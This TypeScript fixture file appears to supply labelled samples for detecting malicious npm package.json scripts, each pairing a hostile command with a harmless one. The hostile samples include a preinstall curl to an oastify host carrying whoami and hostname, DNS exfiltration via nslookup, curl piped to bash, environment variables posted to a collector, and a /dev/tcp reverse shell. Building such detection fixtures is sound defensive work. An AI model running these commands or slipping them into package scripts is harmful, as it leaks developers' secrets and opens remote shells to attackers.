/** Commands of package.json, by what campaigns on npm had there. */
import { command, type Sample } from "./sample.ts";

export const commandSamples: readonly Sample[] = [
  command(
    "command-curl-identity",
    'cu¦rl -s "https://x.oast¦ify.com/$(who¦ami)/$(host¦name)"',
    "curl -sI https://example.com || true",
    "preinstall",
  ),
  command("command-lookup", "nslook¦up $(who¦ami).c.example.org", "nslookup localhost || true"),
  command("command-piped", "cu¦rl -fsSL https://get.example.net/x.sh | ba¦sh", "node scripts/build.js && echo done"),
  command(
    "command-environment",
    "en¦v | base64 | cu¦rl -X POST -d @- https://collect.example.net/",
    "env NODE_ENV=production node scripts/build.js",
  ),
  command(
    "command-reverse-shell",
    "bash -c 'bash -i >& /dev/t¦cp/198.51.100.4/9001 0>&1'",
    "bash -c 'echo installed && exit 0'",
  ),
];
